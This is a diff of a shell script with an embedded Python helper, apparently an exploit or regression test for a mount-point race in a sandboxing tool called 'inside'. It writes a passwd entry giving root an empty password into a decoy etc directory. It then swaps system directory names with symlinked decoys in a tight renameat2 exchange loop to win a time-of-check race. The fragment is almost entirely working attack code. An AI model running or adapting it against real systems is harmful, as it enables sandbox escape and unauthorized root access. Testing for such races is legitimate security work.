@@ -11,20 +11,22 @@
 victim=$TMP/victim
 mkdir "$victim"
 inside -- /bin/true # makes the mountpoints
-for name in usr proc etc; do
-    ln -s "$victim" "$WS/.other-$name"
-done
+mkdir "$WS/elsewhere" "$WS/.other-etc"
+echo root::0:0:root:/:/bin/sh >"$WS/.other-etc/passwd"
+ln -s "$victim" "$WS/.other-usr"
+ln -s elsewhere "$WS/.other-proc"
 
 /usr/bin/python3 - "$WS" <<'END' &
-import ctypes, itertools, os, sys, time
+import ctypes, os, random, sys, time
 
 libc = ctypes.CDLL(None, use_errno=True)
 AT_FDCWD, EXCHANGE = -100, 2
 os.chdir(sys.argv[1])
-for turn in itertools.count():
-    for name in (b"usr", b"proc", b"etc"):
+while True:
+    name = random.choice((b"usr", b"proc", b"etc"))
+    for _ in ("away", "back"):
         libc.renameat2(AT_FDCWD, name, AT_FDCWD, b".other-" + name, EXCHANGE)
-        time.sleep(0.0002 * (turn % 7))
+        time.sleep(random.random() * 0.004)
 END
 swapper=$!
 trap 'kill $swapper 2>/dev/null || true' EXIT
